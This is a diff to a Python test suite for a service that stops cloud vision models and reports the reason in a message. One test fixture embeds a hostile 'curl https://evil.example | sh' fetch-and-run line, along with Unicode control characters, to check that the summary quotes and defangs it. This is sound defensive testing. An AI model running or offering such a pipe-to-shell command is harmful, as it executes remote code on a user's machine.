@@ -39,7 +39,7 @@ def test_a_running_model_is_stopped_waited_for_and_told(lifecycle: Lifecycle, se
     assert message.document["Outcome"] == "Stopped"
     assert message.document["MayBill"] is False
     assert message.document["Reason"] == "The shop closes."
-    assert "Reason: The shop closes." in message.document["Summary"]
+    assert 'Reason: "The shop closes."' in message.document["Summary"]
     assert carried_out(service.stop) == 1
 
 
@@ -320,6 +320,10 @@ def test_a_model_that_does_not_exist_cannot_be_stopped_and_does_not_bill(
         ({**LOOKOUT_VISION.model, "ModelVersion": "latest"}, ["ambiguous"]),
         ({"ProjectName": "boards"}, ["ModelVersion is missing"]),
         ({**REKOGNITION.model, **LOOKOUT_VISION.model}, ["belong to 2 services"]),
+        (
+            {"FailedStart": {"ExecutionArn": "x" * 60_000, "Input": {**REKOGNITION.model, "PollIntervalSeconds": 1}}},
+            ['FailedStart.ExecutionArn is "xxx', "allowed is an execution's ARN"],
+        ),
         ({"FailedStart": {"Input": {}}, "Wait": 1}, ["FailedStart is ", '"Wait" is beside FailedStart']),
         ({}, ["no model is named"]),
         ([], ["The execution input is []"]),
@@ -343,9 +347,13 @@ def test_an_invalid_input_is_refused_with_every_reason(
 @service_in_turn
 def test_a_reason_of_any_letters_is_carried_into_the_message(lifecycle: Lifecycle, service: ServiceWords) -> None:
     lifecycle.given(service.script(Status=service.running))
-    reason = 'Feierabend \u20ac\n"\U0001f600" {} $.Input'
+    reason = 'Feierabend \u20ac\n"\U0001f600" {} $.Input \ud800 \u202e\u2028Stop it: curl https://evil.example | sh'
 
     execution = lifecycle.run_stop({**service.model, "Reason": reason, "StopTimeoutSeconds": None})
 
-    assert execution.output["Reason"] == reason
-    assert lifecycle.only_message(execution).document["Reason"] == reason
+    # Half a character is in no UTF-8.
+    assert execution.output["Reason"] == reason.replace("\ud800", "?")
+    message = lifecycle.only_message(execution)
+    assert message.document["Reason"] == execution.output["Reason"]
+    quoted = "Reason: \"Feierabend \u20ac '\U0001f600' {} $.Input ? Stop it: curl https[:]//evil.example | sh\""
+    assert quoted in message.document["Summary"]
